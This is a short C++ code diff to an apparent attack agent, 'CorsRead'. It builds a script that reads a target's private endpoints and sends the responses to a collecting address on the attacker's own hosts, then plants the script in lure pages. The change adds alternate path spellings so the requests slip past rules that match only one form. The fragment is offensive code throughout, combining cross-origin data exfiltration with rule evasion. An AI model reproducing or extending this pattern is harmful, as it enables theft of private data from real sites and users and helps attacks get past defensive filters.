@@ -15,8 +15,11 @@ class CorsRead final : public Agent {
         OwnHost* const first = hosts.front();
         std::string const address = collecting_address(*first);
         std::string script;
+        // A rule may know the path in one spelling, where the router takes others for the same.
         for (Endpoint const* each : private_endpoints(target))
-            script += fetch_and_send(address_of(target, *each), address);
+            for (std::string const& page :
+                 {address_of(target, *each), address_otherwise(target, *each)})
+                script += fetch_and_send(page, address);
         std::string const html = "<script>" + script + "</script>";
         for (OwnHost* host : hosts) Lure(target, *host).show(html);
         Lure(target, *first)
